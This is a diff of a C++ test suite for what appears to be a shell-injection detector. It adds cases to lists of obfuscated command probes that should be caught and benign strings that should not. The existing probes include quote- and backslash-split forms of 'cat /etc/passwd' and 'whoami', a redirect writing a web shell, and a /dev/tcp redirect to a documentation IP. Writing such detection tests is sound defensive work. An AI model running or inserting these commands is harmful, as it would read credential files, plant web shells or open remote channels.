@@ -38,6 +38,8 @@ INSTANTIATE_TEST_SUITE_P(
         "w'h'o'am'i", "c'a't /e\"t\"c/passwd", "wh\"\"oami", "u'n'a'm'e -a",
         // ... or by backslashes.
         "w\\h\\o\\a\\m\\i", "c\\a\\t /e\\t\\c/pa\\ss\\wd", "u\\n\\a\\m\\e -a",
+        // ... once in the name and again in its arguments.
+        "ca\\t /et\\c/pas\\swd",
         // A value that is only an output redirection into a system location.
         ">/tmp/curl", ">> /var/www/html/shell.php", "2>/dev/tcp/192.0.2.1/4444",
         "&>/etc/cron.d/x"));
@@ -59,7 +61,8 @@ INSTANTIATE_TEST_SUITE_P(
         "p's and q's", "rock'n'roll", "it's John's cat", "l's and r's", "O'Brien's", "\"cat\"",
         "'ls'", "c'est la vie", "Qu'est-ce que c'est", "don't stop",
         // Backslashes in Windows paths and regular-expression classes.
-        "C:\\Users\\ann\\doc.txt", "\\w+\\s\\w+", "i\\d", "\\textbf{x}",
+        "C:\\Users\\ann\\doc.txt", "\\w+\\s\\w+", "i\\d", "\\textbf{x}", "ca\\t file",
+        "don't won't", "l'id de l'utilisateur",
         // Punctuation, quotes and arithmetic near the probe shapes.
         "~", "~-~", "~+~", "~+a", "~-1234", "!!", "!!!", "wow!!", "!-1 is not one", "!1", "-1!",
         "x!-1", "> /r/programming is where I read it", ">/tmp/", "> /tmp/x was the file",
